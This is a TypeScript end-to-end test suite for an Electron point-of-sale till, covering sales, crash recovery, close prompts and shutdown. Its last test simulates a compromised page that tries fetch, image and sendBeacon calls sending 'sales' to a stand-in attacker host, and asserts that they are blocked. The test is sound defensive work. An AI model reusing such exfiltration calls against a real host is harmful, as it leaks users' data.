/** Main and preload as built, unmodified, with a real Chromium for their window: a sale, a crash, a person who closes it. */
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { buildPage, isPageFresh, pageFolder } from '../../scripts/build-page.ts';
import { demoOperators } from '../../src/domain/demo.ts';
import { leavingWords } from '../../electron/words.ts';
import { makeProgram, type Program } from './program.ts';
import { openAppWindow, type AppWindow } from './window.ts';

const patient = { timeout: 15_000 };
const cup = '2000002000013';
let program: Program;
let till: AppWindow;
let runs = 0;

beforeAll(async () => {
  if (!isPageFresh()) await buildPage();
  program = await makeProgram(pageFolder());
}, 120_000);
afterAll(() => program.remove());
beforeEach(async () => {
  till = await openAppWindow(program, ['--data', join(program.folder, `data-${(runs += 1)}`), '--demo']);
}, 60_000);
afterEach(() => till.end());

/** Signs the cashier in, opens the drawer and scans one cup. */
async function readyToSell(): Promise<Page> {
  const page = await till.page();
  const keys = await till.keys(page);
  await page.getByTestId('pin-dots').waitFor();
  await keys.type(demoOperators.find(({ role }) => role === 'cashier')?.pin ?? '');
  await page.getByTestId('open-till').click();
  await page.getByTestId('cart-empty').waitFor();
  await keys.scan(cup);
  await page.getByTestId('cart-row').waitFor();
  // The cart is kept behind the frame that shows it.
  await expect.poll(() => till.notes.some(([what, name]) => what === 'said' && name === 'draft.save'), patient).toBe(true);
  return page;
}

test('sells over the preload script\'s two functions, with nothing refused by the page\'s own policy', async () => {
  const page = await readyToSell();
  const bridge = await page.evaluate(() => Object.entries(Reflect.get(window, 'till') as object).map(([name, value]) => [name, typeof value]));
  expect(bridge).toEqual([['send', 'function'], ['onText', 'function']]);
  await page.keyboard.press('F8');
  await page.getByTestId('take').waitFor();
  await page.keyboard.press('F8');
  await page.keyboard.press('Enter');
  await page.getByTestId('done').waitFor();
  expect(till.faults).toEqual([]);
  expect(till.notes.filter(([what]) => what === 'fault')).toEqual([]);
  till.tell('close');
  expect(await till.ended).toBe(0);
}, 60_000);

test('a page that crashes comes back with its cart', async () => {
  const page = await readyToSell();
  const due = await page.getByTestId('due').getAttribute('data-amount');
  const debug = await page.context().newCDPSession(page);
  void debug.send('Page.crash').catch(() => undefined);
  await till.until('loaded', 2);
  const next = await till.page();
  expect(next).not.toBe(page);
  await next.getByTestId('cart-row').waitFor();
  expect(await next.getByTestId('due').getAttribute('data-amount')).toBe(due);
  expect(due).not.toBe('0');
}, 60_000);

test('closing over an open sale asks, once; the sale goes on when told so and is kept when not', async () => {
  const page = await readyToSell();
  till.tell('close');
  till.tell('close');
  const { message, stay, leave } = leavingWords;
  expect(await till.until('asked')).toEqual(['asked', message, [stay, leave]]);
  till.tell('answer 0');
  await expect.poll(() => page.getByTestId('cart-row').isVisible(), patient).toBe(true);
  till.tell('close');
  await till.until('asked', 2);
  till.tell('answer 1');
  expect(await till.ended).toBe(0);
  expect(till.notes.filter(([what]) => what === 'asked')).toHaveLength(2);
  await till.end();
  till = await openAppWindow(program, ['--data', join(program.folder, `data-${runs}`)]);
  const again = await till.page();
  const keys = await till.keys(again);
  await again.getByTestId('pin-dots').waitFor();
  await keys.type(demoOperators.find(({ role }) => role === 'cashier')?.pin ?? '');
  await again.getByTestId('cart-row').waitFor();
}, 90_000);

test('the system ends it without a question, sale or not', async () => {
  await readyToSell();
  till.signal('SIGTERM');
  expect(await till.ended).toBe(0);
  expect(till.notes.filter(([what]) => what === 'asked')).toEqual([]);
}, 60_000);

test('a page that turned on the till gets no Node, no network, no other page and no window', async () => {
  const page = await till.page();
  await page.getByTestId('pin-dots').waitFor();
  expect(await page.evaluate(() => ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'].filter((name) => name in window))).toEqual([]);
  const tries = await page.evaluate(async () => {
    const attempt = (run: () => unknown): Promise<string> => Promise.resolve().then(run).then(() => 'done', () => 'refused');
    const image = (source: string): Promise<unknown> => new Promise((resolve, reject) => {
      const made = Object.assign(new Image(), { onload: resolve, onerror: () => reject(new Error('no image')) });
      made.src = source;
    });
    return {
      fetch: await attempt(() => fetch('https://evil.example/')),
      own: await attempt(() => fetch('/index.html')),
      beacon: navigator.sendBeacon('https://evil.example/', 'sales'),
      socket: await attempt(() => new Promise((resolve, reject) => {
        const socket = new WebSocket('ws://127.0.0.1:9');
        socket.onopen = resolve;
        socket.onerror = () => reject(new Error('no socket'));
      })),
      image: await attempt(() => image('https://evil.example/a.png')),
      evaluate: await attempt(() => (0, eval)('1')),
      worker: await attempt(() => new Worker('data:text/javascript,1')),
    };
  });
  expect(tries).toMatchObject({ fetch: 'refused', own: 'refused', socket: 'refused', image: 'refused', evaluate: 'refused', worker: 'refused' });
  await page.evaluate(() => void window.open('about:blank#other'));
  expect((await till.until('popup'))[2]).toBe('deny');
  for (const url of ['https://evil.example/page', 'http://app-pos.localhost/index.html?other']) {
    await page.evaluate((to) => void (location.href = to), url);
    await expect.poll(() => till.notes.some(([what, to]) => what === 'navigation' && String(to).includes(url.split('/').at(-1) ?? '')), patient).toBe(true);
  }
  expect(till.notes.filter(([what, , isPrevented]) => what === 'navigation' && isPrevented !== true)).toEqual([]);
  const outside = till.notes.filter(([what, url]) => what === 'request' && !String(url).startsWith('app://pos/'));
  expect(outside.filter(([, , isCancelled]) => isCancelled !== true)).toEqual([]);
  await page.getByTestId('pin-dots').waitFor();
}, 60_000);
